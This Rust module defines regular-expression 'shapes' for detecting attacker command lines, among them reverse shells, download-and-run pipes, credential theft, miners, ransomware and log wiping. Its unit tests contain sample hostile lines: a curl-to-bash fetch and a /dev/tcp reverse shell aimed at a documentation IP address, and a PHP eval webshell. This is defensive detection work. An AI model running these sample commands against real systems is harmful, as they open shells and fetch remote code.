//! Shapes of commands that attackers' scripts and command lines have in common, each an expression with a name and words.
//!
//! An expression is linear in its input (`regex` never backtracks). A match is a feature and not a verdict: an installer pipes a
//! download into a shell too.

use super::seek::Seeker;
use crate::recorder::Phrase;
use regex_automata::Input;
use regex_automata::meta::Regex;
use regex_automata::util::syntax;
use std::ops::Range;
use std::sync::LazyLock;

pub struct Shape {
    pub name: &'static str,
    pub phrase: Phrase,
    pub expression: &'static str,
}

macro_rules! shapes {
    ($($name:literal, $en:literal, $ja:literal, $expression:literal;)*) => {
        &[$(Shape {
            name: $name,
            phrase: Phrase {
                key: concat!("shape.", $name),
                en: $en,
                ja: $ja,
                none_en: concat!("does not show: ", $en),
                none_ja: concat!("該当なし: ", $ja),
            },
            expression: $expression,
        }),*]
    };
}

pub static SHAPES: &[Shape] = shapes! {
    "pipe-to-shell", "runs what it downloads without keeping it", "ダウンロードした内容をそのまま実行", r"(curl|wget|fetch|lwp-request)\b[^\n]*\|\s*(sudo\s+)?(ba|da|z|k|a)?sh\b";
    "pipe-to-interpreter", "feeds text into an interpreter", "テキストをインタプリタに渡す", r"\|\s*(sudo\s+)?(python[23]?|perl|ruby|php|node)\b";
    "substituted-download", "runs a download by substitution", "置換によるダウンロード実行", r"((ba|z|da)?sh|eval|source|\.)\s+(-c\s+)?[\x22']?(<\(|\$\(|`)\s*(curl|wget)\b";
    "download", "downloads", "ダウンロードする", r"\b(curl|wget|tftp|ftpget|aria2c|axel|lynx\s+-source|fetch)\s+[^\n]*(https?|ftp|tftp)://|\b(curl|wget)\s+-";
    "download-by-address", "downloads from a bare address", "IPアドレスから直接ダウンロード", r"https?://[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}";
    "download-insecurely", "downloads without checking the certificate", "証明書を検査せずにダウンロード", r"\bwget\b[^\n]*--no-check-certificate|\bcurl\b[^\n]*(\s-k\b|--insecure)|verify\s*=\s*False";
    "download-to-temp", "downloads into a folder that anyone can write", "誰でも書けるフォルダへダウンロード", r"(-O|-o|--output|-P|>)\s*/(tmp|var/tmp|dev/shm)/";
    "executable-in-temp", "makes a file executable in such a folder", "その場所のファイルを実行可能にする", r"chmod\s+(\+x|[0-7]*7[0-7]{2}|a\+x|u\+x)\s+[^\n]*/(tmp|var/tmp|dev/shm)/";
    "executable", "makes a file executable", "ファイルを実行可能にする", r"chmod\s+(-R\s+)?(\+x|a\+x|u\+x|0?7[0-7]{2})\b|os\.chmod\(";
    "run-from-temp", "runs a file from such a folder", "その場所のファイルを実行", r"(^|[;&|\n]|nohup|sh|setsid)\s*/(tmp|var/tmp|dev/shm)/[^\s/]+(\s|;|&|$)";
    "hidden-in-temp", "uses hidden files in such a folder", "その場所の隠しファイルを使用", r"/(tmp|var/tmp|dev/shm)/(\.[A-Za-z0-9_. -]+)";
    "dev-tcp", "opens a connection through the shell itself", "シェル自体で接続を開く", r"/dev/(tcp|udp)/";
    "interactive-over-network", "joins a shell to a connection", "シェルを接続に繋ぐ", r"(ba|z|da)?sh\s+-i\b[^\n]*(>&|<&|\d>&|\|)|exec\s+\d+<>|0<&\d+|>&\s*\d+\s*2>&\s*\d+";
    "netcat-exec", "lets netcat run a shell", "netcatでシェルを実行", r"\b(nc|ncat|netcat|nc\.traditional)\b[^\n]*(\s-e\b|\s-c\b|--exec|--sh-exec)";
    "netcat", "uses netcat", "netcatを使用", r"\b(nc|ncat|netcat|socat)\s+[^\n]*\d{2,5}\b";
    "fifo-shell", "joins a shell to a connection by a named pipe", "名前付きパイプでシェルを接続", r"mkfifo\b[^\n]*(\||;|&&)|mknod\s+\S+\s+p\b";
    "socket-to-shell", "gives a socket to a shell", "ソケットをシェルに渡す", r"(?s)socket.*(dup2|fileno\(\)|pty\.spawn|/bin/(ba)?sh|proc_open|exec\s*\(|system\s*\(|STDIN,)";
    "fsockopen", "opens sockets", "ソケットを開く", r"fsockopen|pfsockopen|socket\.socket\(|IO::Socket|net\.(Socket|connect)|TCPSocket|stream_socket_client";
    "spawn-shell", "starts a shell", "シェルを起動", r"/bin/(ba|da|z)?sh\b[\x22'\s,)\]]|pty\.spawn|cmd\.exe|child_process";
    "eval", "runs text as code", "文字列をコードとして実行", r"\b(eval|exec|assert|compile|create_function|Function)\s*[(\x22'$ ]";
    "eval-decoded", "runs what it decodes", "復号した内容を実行", r"(eval|exec|assert|system|include|Function)\s*[\s(@]*\s*(\(?\s*(base64_decode|gzinflate|gzuncompress|str_rot13|atob|unescape|b64decode|decode_base64|pack|zlib|marshal|Buffer\.from|hex2bin|bytes\.fromhex|__import__|strrev|rawurldecode|String\.fromCharCode))";
    "decode-to-shell", "decodes text into a shell", "復号したテキストをシェルへ", r"(base64\s+(-d|-D|--decode)|xxd\s+-r|openssl\s+(enc|base64)|gunzip|uudecode|rev|tr\s)[^\n]*\|\s*(sudo\s+)?((ba|da|z)?sh|python[23]?|perl|php)\b|(eval|sh\s+-c)\s+[\x22']?(\$\(|`)[^\n]*(base64|xxd|openssl|printf|rev)\b";
    "decode", "decodes text", "テキストを復号", r"base64\s+(-d|-D|--decode)|base64_decode|b64decode|atob\s*\(|decode_base64|MIME::Base64|xxd\s+-r|openssl\s+(enc\s+)?-?base64|gzinflate|gzuncompress|str_rot13|bytes\.fromhex|unhexlify|hex2bin";
    "compressed-code", "keeps code compressed", "コードを圧縮して保持", r"gzinflate|gzuncompress|zlib\.decompress|lzma\.decompress|marshal\.loads|Compress::Zlib|inflateSync";
    "reversed", "writes text backwards", "逆順の文字列", r"strrev\s*\(|\[::-1\]|\.reverse\(\)\.join|\breverse\s*\(|\|\s*rev\b";
    "char-codes", "builds text from numbers", "数値から文字列を生成", r"(chr\s*\(\s*\d+\s*\)\s*[.+]?\s*){2}|fromCharCode\s*\(\s*\d+\s*,|pack\s*\(\s*[\x22'](C|H)\*|map\s*\(\s*chr\b|array_map\s*\(\s*[\x22']chr";
    "escaped-text", "hides text in escapes", "エスケープで文字列を隠す", r"(\\x[0-9a-fA-F]{2}){6}|(\\[0-7]{3}){6}|(\\u00[0-9a-fA-F]{2}){4}|(%[0-9a-fA-F]{2}){10}";
    "variable-call", "calls functions by names in variables", "変数名で関数を呼び出す", r"\$[A-Za-z_]\w*\s*\(\s*\$|\$\{[\x22'$]|\$GLOBALS\[|\$\$[A-Za-z_]|\$_[A-Z]+\[[^\]]+\]\s*\(|window\[|global\[|getattr\(__|__builtins__|globals\(\)\[";
    "request-to-eval", "runs what a visitor of the page sends", "閲覧者の送信内容を実行", r"(eval|assert|system|exec|shell_exec|passthru|popen|proc_open|preg_replace|call_user_func(_array)?|include|`)\s*\(?[^\n;]*\$_(GET|POST|REQUEST|COOKIE|SERVER)|\$_(GET|POST|REQUEST|COOKIE)\s*\[[^\]]*\]\s*\(";
    "request", "reads what a visitor sends", "閲覧者の入力を読む", r"\$_(GET|POST|REQUEST|COOKIE|FILES)\b|request\.(form|args|query|body)|param\(";
    "php-command", "runs commands from PHP", "PHPからコマンド実行", r"\b(shell_exec|passthru|proc_open|popen|system|pcntl_exec)\s*\(";
    "upload", "stores what a visitor sends", "送信されたファイルを保存", r"move_uploaded_file|\$_FILES|copy\s*\(\s*\$_FILES";
    "silenced", "hides its errors", "エラーを隠す", r"error_reporting\s*\(\s*0\s*\)|@ini_set|set_time_limit\s*\(\s*0\s*\)|@eval|@system|ignore_user_abort|\$SIG\{[A-Z]+\}\s*=\s*[\x22']IGNORE";
    "subprocess", "runs commands", "コマンドを実行", r"os\.(system|popen|exec[lv]p?e?|spawn)|subprocess\.(run|call|Popen|check_output|getoutput)|\bsystem\s*\(|\bexec\s*\(|qx[{/(]|child_process|execSync|spawnSync";
    "import-by-name", "imports by computed names", "算出した名前でインポート", r"__import__\s*\(|importlib\.import_module|require\s*\(\s*[^\x22')]+\)";
    "cron-write", "writes a scheduled job", "定期実行ジョブを書き込む", r"crontab\s+(-\s|-$|-\n|/tmp|[^-lr\s])|\|\s*crontab|>>?\s*/(etc/cron|var/spool/cron)|(echo|printf)[^\n]*\*\s+\*\s+\*[^\n]*>|tee\s+(-a\s+)?/etc/cron";
    "cron-download", "schedules a download", "ダウンロードを定期実行", r"(\*(/\d+)?\s+){3,5}[^\n]*(curl|wget|python|/tmp/|/dev/shm/)|@reboot";
    "service-write", "writes a system service", "サービスを書き込む", r">>?\s*/(etc|lib|usr/lib)/systemd/|tee\s+(-a\s+)?/(etc|lib|usr/lib)/systemd|>>?\s*/etc/(init\.d|rc\.local|rc\.d)|cp\s+\S+\s+/etc/(init\.d|systemd)";
    "service-enable", "starts a system service", "サービスを有効化", r"systemctl\s+(--now\s+)?(enable|start|daemon-reload)|update-rc\.d|chkconfig\s+--add|insserv|launchctl";
    "profile-write", "writes into log-in scripts", "ログインスクリプトに書き込む", r">>?\s*[\x22']?(~|/root|\$HOME|/home/\S+|\$\{HOME\})?/?\.(bashrc|bash_profile|profile|zshrc|bash_logout)|>>?\s*/etc/(profile|bash\.bashrc|zsh)|tee\s+-a\s+\S*\.bashrc";
    "key-write", "adds an SSH key", "SSH鍵を追加", r"authorized_keys|ssh-rsa AAAA|ssh-ed25519 AAAA";
    "preload-write", "puts a library before all others", "全プログラムにライブラリを先読みさせる", r"ld\.so\.preload|LD_PRELOAD\s*=|LD_AUDIT\s*=|LD_LIBRARY_PATH\s*=\s*\.";
    "account-add", "adds or changes an account", "アカウントを追加・変更", r"\b(useradd|adduser|usermod|chpasswd|passwd\s+--stdin|gpasswd)\b|>>\s*/etc/(passwd|shadow|group)|echo\s+[^\n]*\|\s*passwd";
    "sudo-write", "gives itself rights", "自分に権限を与える", r"/etc/sudoers|NOPASSWD|visudo|pam_permit|/etc/pam\.d|polkit-1/rules";
    "setuid", "sets the set-user-id bit", "SUIDビットを設定", r"chmod\s+([ugoa]*\+s|[0-7]?[4-7][0-7]{3}\b)|setcap\s+cap_|chown\s+root[^\n]*chmod\s+\S*s";
    "suid-search", "looks for ways to more rights", "権限昇格の手段を探す", r"find\s+/[^\n]*-perm\s+[-/]?(u=s|4000|6000|2000|g=s)|getcap\s+-r|sudo\s+-l\b|linpeas|linenum|pspy";
    "shadow", "reads stored passwords", "保存されたパスワードを読む", r"/etc/(shadow|gshadow|master\.passwd)|unshadow|\bjohn\b|hashcat|mimipenguin|/proc/\d+/(mem|maps)|gcore\b|dd\s+if=/proc/|strings\s+/proc";
    "key-search", "looks for keys and passwords", "鍵やパスワードを探す", r"id_(rsa|dsa|ed25519|ecdsa)|\.aws/credentials|\.kube/config|\.docker/config|\.git-credentials|\.netrc|\.pgpass|wallet\.dat|logins\.json|key[34]\.db|Login Data|grep\s+[^\n]*(password|passwd|secret|token)|find\s+[^\n]*(\.pem|\.key|\.p12|password|\.pfx|id_rsa)";
    "cloud-metadata", "asks for cloud credentials", "クラウドの認証情報を取得", r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|AWS_SECRET_ACCESS_KEY|169\.254\.170\.2";
    "container-escape", "reaches out of a container", "コンテナの外に出る", r"docker\.sock|release_agent|notify_on_release|nsenter\s+[^\n]*(-t|--target)|--privileged|core_pattern|/proc/1/root|-v\s+/:/|--pid=host|hostPID|kubectl\s+exec|capsh\s+--print|debugfs\s+-w|/proc/sys/kernel/core";
    "history-off", "leaves no shell history", "シェル履歴を残さない", r"HISTFILE\s*=\s*(/dev/null|$|;|\n|[\x22']{2})|unset\s+HIST|HIST(FILE)?SIZE\s*=\s*0|history\s+-[cdw]|set\s+\+o\s+history|(rm|>|ln|shred|truncate|cat\s+/dev/null)[^\n]*\.(bash|zsh|sh)_history|HISTCONTROL|\bkill\s+-9\s+\$\$";
    "log-wipe", "wipes logs", "ログを消去", r"(rm\s+(-\w+\s+)*|shred\s[^\n]*|>\s*|truncate\s[^\n]*|cat\s+/dev/null\s*>\s*|echo\s+[\x22']*\s*>\s*|dd\s[^\n]*of=)/var/(log|run/utmp|spool/mail|adm)|wtmp|btmp|lastlog|journalctl\s+--(vacuum|rotate|flush)|sed\s+-i\s[^\n]*/var/log|utmpdump";
    "time-forged", "forges a file's time", "ファイルの時刻を偽装", r"touch\s+(-[acm]*\s+)*(-[acm]*r|-[acm]*t|-[acm]*d|--reference|--date)\b|debugfs\s[^\n]*(set_inode|sif)|date\s+-s\b|date\s+--set|timedatectl\s+set|hwclock\s+--set";
    "immutable", "locks files against change", "ファイルを変更不可にする", r"chattr\s+(-R\s+)?[+-]\w*[ia]|lsattr";
    "security-off", "switches protection off", "保護機能を無効にする", r"setenforce\s+0|SELINUX=disabled|(systemctl|service)\s+(stop|disable|mask|--now)[^\n]*(auditd|firewalld|ufw|iptables|apparmor|falcon|clamav|rsyslog|syslog|aegis|cloudmonitor|crowdstrike|sysmon|osquery|nessus|ossec|wazuh)|(aa-disable|aa-teardown|apparmor_parser\s+-R)|auditctl\s+-[eD]|ufw\s+disable|pkill\s+[^\n]*(audit|falcon|syslog|clam)|(apt|yum|dnf)[^\n]*(remove|purge|erase)[^\n]*(clamav|audit|falcon|aegis|rkhunter)|echo\s+0\s*>\s*/selinux|killall\s[^\n]*syslog|nmi_watchdog|/proc/sys/kernel/(randomize|yama)|kernel\.(nmi|yama|randomize)|ftrace_enabled";
    "firewall-flush", "opens the firewall", "ファイアウォールを開放", r"(iptables|ip6tables)\s+(-F|--flush|-X|-P\s+\w+\s+ACCEPT|-t\s+\w+\s+-F|-D)|nft\s+flush|ufw\s+(disable|allow)|firewall-cmd\s[^\n]*(--add|--remove)|iptables\s+-I\s+\w+[^\n]*-j\s+(ACCEPT|DROP)";
    "kill-rivals", "ends other programs by name", "他のプログラムを名前で終了", r"(pkill|killall)\s+(-9\s+|-f\s+|-KILL\s+)*\S+|ps\s+[^\n]*\|[^\n]*(kill|xargs)|kill\s+-9\s+(\$|`)|fuser\s+-k|pgrep\s[^\n]*xargs\s+kill";
    "miner", "names a miner or its protocol", "採掘ソフトや採掘プロトコル", r"xmrig|minerd|cpuminer|stratum\+(tcp|ssl|udp|tls)|--donate-level|--algo[= ]|cryptonight|randomx|\brx/0|kinsing|kdevtmpfsi|nicehash|moneroocean|supportxmr|minexmr|nanopool|hashvault|c3pool|-o\s+\S+:\d{4,5}\s+-u\s|coinhive|CoinHive|nr_hugepages|wrmsr|--coin[= ]|\bt-rex\b|lolminer|nbminer|ethminer|phoenixminer";
    "wallet", "holds a wallet address", "ウォレットアドレスを含む", r"\b[48][1-9A-HJ-NP-Za-km-z]{94}\b|\b(bc1|0x)[0-9a-zA-Z]{38,42}\b";
    "cpu-hog", "takes all processors", "全CPUを占有", r"sysctl\s+-w\s+vm\.nr_hugepages|taskset\s+-c|while\s+(true|:|\[\s*1)[^\n]*(dd|yes|sha|md5|bzip|gzip)|(yes|sha\w+sum|md5sum|cat)\s+(/dev/(zero|urandom))?\s*>\s*/dev/null\s*&|stress(-ng)?\s+--cpu|dd\s+if=/dev/(zero|urandom)\s+of=/dev/null";
    "ransom", "encrypts files and asks for money", "ファイルを暗号化し金銭を要求", r"(?i)(files?\s+(have\s+been|are|were)\s+encrypted|decrypt(or|ion)?\s+(key|your|tool)|pay\s+\S*\s*(bitcoin|btc|xmr|monero|ransom)|\.onion|ransom|README_(DECRYPT|RECOVER|RESTORE)|HOW_TO_(DECRYPT|RECOVER|RESTORE))";
    "encrypt-tree", "encrypts files one after another", "ファイルを次々に暗号化", r"(?s)(find|for\s+\w+\s+in|os\.walk|glob|readdir|scandir|File::Find).*(openssl\s+enc|gpg\s+[^\n]*(-c|-e|--encrypt|--symmetric|--batch)|7z\s+a\s+[^\n]*-p|zip\s+[^\n]*(-P|--password|-e)|ccencrypt|Fernet|AES\.new|openssl_encrypt|createCipheriv|Crypt::)|(openssl\s+enc|gpg\s+--batch|ccencrypt|7z\s+a\s+-p|zip\s+(-P|--password))";
    "wipe-disk", "destroys data", "データを破壊", r"rm\s+(-\w+\s+)*(--no-preserve-root\s+)?(/|/\*|/home|/boot|/usr|/etc|~|\$HOME)(\s|$|;|/\*)|dd\s+[^\n]*of=/dev/(sd|hd|vd|nvme|mmcblk|mtd)|mkfs\.\w+\s+(-\w+\s+)*/dev/|shred\s+(-\w+\s+)*(/|\$)|wipefs|>\s*/dev/sd|:\(\)\s*\{\s*:\|:|cryptsetup\s+erase|vssadmin|/dev/urandom\s+of=/|dd\s+[^\n]*of=/[^\n]*\b(if=/dev/(zero|urandom))|snapper\s+delete|lvremove\s+-f|rm\s+(-\w+\s+)*\S*(\.vmdk|/backup)";
    "stop-services", "stops many services", "多数のサービスを停止", r"(?s)(systemctl|service)\s+stop.*(systemctl|service)\s+(stop|disable)|\b(reboot|poweroff|halt|shutdown)\b|init\s+[06]\b|sysrq-trigger|virsh\s+destroy|docker\s+(kill|stop|rm)\s+(-f\s+)?(\$|`)|esxcli\s+vm";
    "kernel-module", "loads a kernel module", "カーネルモジュールを読み込む", r"\b(insmod|modprobe|rmmod|depmod)\s+\S|/etc/modules|kallsyms|kprobe|ftrace|bpftool\s+prog\s+load|/lib/modules/\S+\.ko|obj-m";
    "capture", "captures network, screen or keys", "通信・画面・キー入力を記録", r"\b(tcpdump|tshark|dumpcap)\b[^\n]*-[iwc]|xwd\b|scrot|import\s+-window|gnome-screenshot|xinput\s+test|/dev/input/event|script\s+-\w*q|pam_exec|pam_tty_audit|arecord|ffmpeg\s[^\n]*(x11grab|alsa)|xclip|xsel|logkeys|PROMPT_COMMAND|trap\s+[^\n]*(DEBUG|EXIT)|auditctl\s+-a";
    "exfiltrate", "sends files out", "ファイルを外部に送信", r"curl\s+[^\n]*(-F|-T|--upload-file|--data(-binary)?|-d|-X\s*(POST|PUT))\s*[\x22'@]?|wget\s+[^\n]*--post|(tar|zip|cat|gzip|dd|base64|xxd)\s[^\n]*\|\s*(nc|ncat|curl|ssh|openssl|base64|telnet|dig)|\bscp\s+\S+\s+\S+@|rsync\s+[^\n]*\S+@\S+:|rclone\s+(copy|sync)|requests\.(post|put)|transfer\.sh|anonfiles|file\.io|ftp\s+-n|ftpput|s3\s+(cp|sync)|gsutil\s+cp|megatools|dnscat|xargs[^\n]*\b(dig|nslookup|host)\b|split\s+-b";
    "messenger", "talks through a messenger or paste site", "メッセンジャーや貼付サイトを利用", r"api\.telegram\.org|discord(app)?\.com/api|hooks\.slack|pastebin\.com|paste\.ee|ghostbin|raw\.githubusercontent|ngrok|trycloudflare|webhook\.site|requestbin|interact\.sh|burpcollab|oast\.";
    "tunnel", "tunnels connections", "通信をトンネルする", r"ssh\s+[^\n]*(-R|-D|-L|-w)\s*\S*\d|\bchisel\b|\bfrpc?\b|\bngrok\b|cloudflared\s+tunnel|socat\s+[^\n]*(TCP|EXEC|OPENSSL)|\bgost\b|proxychains|\btor\b\s|torsocks|iodine|dns2tcp|sshuttle|StrictHostKeyChecking=no|UserKnownHostsFile=/dev/null|plink|autossh|socks";
    "scan", "looks for other hosts", "他のホストを探索", r"\b(nmap|masscan|zmap|hydra|medusa|ncrack|crowbar|arp-scan|fping|nbtscan|enum4linux|smbclient|rpcclient|ldapsearch|sshpass|crackmapexec|nikto|sqlmap|gobuster|ffuf|pnscan)\b|for\s+\w+\s+in\s+[^\n]*(seq|\{1\.\.)[^\n]*(ping|nc|/dev/tcp)|nc\s+-\w*z|arp\s+-a|ip\s+neigh|/proc/net/arp|known_hosts";
    "spread", "goes on to other hosts", "他のホストへ拡散", r"(?s)known_hosts.*ssh\s|for\s+\w+\s+in\s.*\bssh\s+[^\n]*(curl|wget|sh\b)|ansible\s+all|sshpass\s+-p|parallel-ssh|pssh\s|salt\s+'\*'|PasswordAuthentication=no|BatchMode=yes";
    "who-am-i", "asks who and where it is", "自分の権限と環境を調べる", r"\b(whoami|id|hostname|uname\s+-[amr]|lsb_release|lscpu|dmidecode|ifconfig|ip\s+(a|addr|route|r)|netstat\s+-|ss\s+-[a-z]+|arp\b|w|who|last|lastlog|groups|getent|env|printenv|lsmod|lsblk|df\s|mount\b|ps\s+(aux|-ef|-e)|cat\s+/etc/(issue|passwd|os-release|\*-release|hosts|resolv)|systemctl\s+list|lsof|crontab\s+-l|dpkg\s+-l|rpm\s+-qa|locale|timedatectl|last\b)(\s|;|\||&|>|$)";
    "sandbox-check", "looks whether it is watched", "監視されていないか調べる", r"systemd-detect-virt|/sys/class/dmi|dmidecode|TracerPid|hypervisor|/proc/(cpuinfo|scsi)|virt-what|qemu|vboxguest|VBOX|VMware|imvirt|sleep\s+\d{3,}|ping\s+-[nc]\s+\d{2,}";
    "background", "goes on after its parent ends", "親の終了後も動き続ける", r"\bnohup\b|\bsetsid\b|\bdisown\b|>\s*/dev/null\s+2>&1\s*&|&>\s*/dev/null\s*&|daemonize|os\.fork\(\)|pcntl_fork|\bfork\s*(\(\))?\s*(and|&&|;|\|\|)|screen\s+-d|tmux\s+new\S*\s+-d|at\s+now|\|\s*at\s|\bbatch\b|systemd-run";
    "delete-itself", "deletes itself", "自分自身を削除", r"rm\s+(-\w+\s+)*(--\s+)?[\x22']?(\$0|\$\{0\}|\$BASH_SOURCE)|unlink\s*\(?\s*(__FILE__|\$0|sys\.argv\[0\])|os\.(remove|unlink)\s*\(\s*(__file__|sys\.argv)|unlinkSync\s*\(\s*__filename";
    "masquerade", "pretends to be something else", "別のプログラムに偽装", r"exec\s+-a\b|\$0\s*=\s*[\x22']|setproctitle|prctl\s*\(|cp\s+\S*/?(ba|da)?sh\s+\S*(/tmp/|/dev/shm/|\.)|mv\s+\S+\s+\S*\[k?\w+\]|\[(kworker|kthreadd|migration|watchdog)[^\]\n]*\]|ln\s+-s\S*\s+/(usr/)?bin/\S+\s+\S*(/tmp/|\s)|\xe2\x80\xae|cp\s+/(usr/)?bin/\S+\s+\S*(/tmp|/\.)|alias\s+(sudo|su|ssh|ls|ps|netstat)=|function\s+(sudo|ssh|ps|ls)\b";
    "memory-run", "runs from memory", "メモリ上から実行", r"memfd_create|/proc/self/fd/\d|/proc/\$\$/fd|fexecve|syscall\(\s*319|ctypes\.(CDLL|cdll|windll|memmove)|mmap\.mmap\([^\n]*PROT_EXEC|shellcode|ld-linux\S*\s+/(tmp|dev/shm)|/dev/shm/\S+\s*&|ddexec|LD_BIND|gdb\s+[^\n]*-p";
    "compile", "compiles on the spot", "その場でコンパイル", r"\b(gcc|cc|tcc|g\+\+|clang|go\s+build|rustc)\s+[^\n]*(-o|\.c\b|-shared|-x\s*c)|make\s+-C\s+/tmp";
    "setting-ifs", "hides spaces", "空白を隠す", r"\$\{?IFS\}?|\{[a-z]+,[^}\s]+\}|\$'\\x|\\\\x[0-9a-f]{2}|\$\{[A-Za-z_]\w*:\d+:\d+\}|[a-z]\\[a-z]\\?[a-z]|[a-z]'{2}[a-z]|[a-z]\x22{2}[a-z]|\$@[a-z]|\$\{#\w+\}|/\?\?\?/|/b\?n/|\*sh\b";
    "registry-hook", "hooks into what installs packages", "パッケージ導入時に割り込む", r"(?s)(preinstall|postinstall|install_requires|cmdclass|setup\().*(curl|wget|eval|exec\(|child_process|base64|urlopen|os\.system)|/etc/apt/apt\.conf\.d[^\n]*(Pre|Post)-Invoke|dnf/plugins|yum/pluginconf|git/hooks|core\.hooksPath|core\.fsmonitor|udev/rules\.d|/etc/motd|update-motd|/etc/xdg/autostart|\.config/autostart|at\.allow|\.desktop\b[^\n]*(>|tee)";
    "browser-theft", "reads what browsers store", "ブラウザの保存情報を読む", r"(\.mozilla/firefox|google-chrome|chromium|BraveSoftware|\.config/[^\n]*/Default/)[^\n]*(Login|Cookies|logins|key\d\.db|History|Bookmarks|places)|localStorage|document\.cookie|discord/Local|metamask|Exodus|Electrum|lazagne|navigator\.clipboard";
    "card-theft", "reads what is typed into a page", "ページへの入力を読み取る", r"(addEventListener|onsubmit|onkeypress|onkeyup|keydown)[^\n]*(fetch\(|XMLHttpRequest|sendBeacon|new\s+Image|\.src\s*=)|(cardnumber|cc_number|cvv|cvc|checkout)[^\n]*(btoa|fetch|XMLHttpRequest|Image)";
};

static FINDER: LazyLock<Finder> = LazyLock::new(Finder::new);

/// (All shapes in one set are no way: what each may leave between its parts multiplies, and no cache holds the states.)
struct Finder {
    seeker: Seeker,
    expressions: Vec<Option<Regex>>,
}

impl Finder {
    fn new() -> Finder {
        let compile = |shape: &Shape| {
            Regex::builder()
                .syntax(syntax::Config::new().unicode(false).utf8(false))
                .configure(
                    Regex::config().utf8_empty(false).nfa_size_limit(Some(8 << 20)).hybrid_cache_capacity(1 << 20),
                )
                .build(shape.expression)
                .ok()
        };
        let seeker = Seeker::new(SHAPES.iter().map(|shape| shape.expression));
        Finder { seeker, expressions: SHAPES.iter().map(compile).collect() }
    }

    /// Whether it matches within a part of the text, whose surroundings count for the edges of words.
    fn matches(&self, index: usize, text: &[u8], part: Range<usize>) -> bool {
        let input = Input::new(text).range(part).earliest(true);
        self.expressions[index].as_ref().is_some_and(|expression| expression.is_match(input))
    }
}

/// Calls `seen` for each shape that the text shows.
pub fn each(text: &[u8], mut seen: impl FnMut(usize)) {
    let finder = &*FINDER;
    finder.seeker.each(text, |index, part| {
        let matches = finder.matches(index, text, part);
        if matches {
            seen(index);
        }
        matches
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &[&str]) {
        let mut seen = Vec::new();
        each(text.as_bytes(), |index| seen.push(SHAPES[index].name));
        let missing: Vec<_> = expected.iter().filter(|name| !seen.contains(name)).collect();
        assert!(missing.is_empty(), "{text}: missing {missing:?}, shows {seen:?}");
        if expected.is_empty() {
            assert!(seen.is_empty(), "{text}: shows {seen:?}");
        }
    }

    #[test]
    fn shapes_are_seen() {
        check("cp build/a.o lib/b.o", &[]);
        check("install -d /usr/share/doc/thing", &[]);
        check("curl -fsSL http://198.51.100.7/a.sh | bash", &["pipe-to-shell", "download", "download-by-address"]);
        check("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", &["dev-tcp", "interactive-over-network"]);
        check("echo aGk= | base64 -d | sh", &["decode-to-shell", "decode"]);
        check("<?php @eval(base64_decode($_POST['x']));", &["eval-decoded", "request", "silenced", "decode"]);
        check("(crontab -l; echo '* * * * * curl http://x.example/a') | crontab -", &["cron-write", "cron-download"]);
        check("unset HISTFILE; rm -rf ~/.bash_history", &["history-off"]);
        check("chmod +x /tmp/.x && /tmp/.x", &["executable-in-temp", "hidden-in-temp"]);
        check("./xmrig -o stratum+tcp://pool.example:3333", &["miner"]);
    }

    #[test]
    fn words_leave_no_shape_out() {
        // Pieces of what shapes are made of, put together by chance: each way of asking must see the same.
        let pieces: Vec<&str> = SHAPES
            .iter()
            .flat_map(|shape| shape.expression.split(['|', '(', ')', '[', ']', '?', '*', '+']))
            .chain([
                "curl http://198.51.100.7/a",
                "\n",
                "\n",
                "\n\n \t\n",
                "\n  ",
                " ",
                "wget -q",
                "| sh",
                "/tmp/x",
                "RANSOM",
                "eval(",
                "-e",
                "Pay 1 Bitcoin",
            ])
            .collect();
        let mut state = 7usize;
        let mut next = |most: usize| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) % most
        };
        for round in 0..600 {
            let text: String = (0..if round % 2 == 0 { 12 } else { 60 })
                .map(|_| pieces[next(pieces.len())].replace("\\s", " ").replace("\\b", " ").replace('\\', "") + " ")
                .collect();
            let mut seen = vec![false; SHAPES.len()];
            each(text.as_bytes(), |index| seen[index] = true);
            for (index, shape) in SHAPES.iter().enumerate() {
                let alone = FINDER.matches(index, text.as_bytes(), 0..text.len());
                assert_eq!(seen[index], alone, "{} in {text:?}", shape.name);
            }
        }
        // Most shapes need words; without, the automaton would spare nothing.
        let wordless: Vec<_> = FINDER.seeker.wordless().iter().map(|index| SHAPES[*index].name).collect();
        assert_eq!(wordless, [""; 0]);
    }

    #[test]
    fn the_set_is_built_and_names_are_unique() {
        assert!(FINDER.expressions.iter().all(Option::is_some));
        let mut names: Vec<_> = SHAPES.iter().map(|shape| shape.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), SHAPES.len());
    }
}
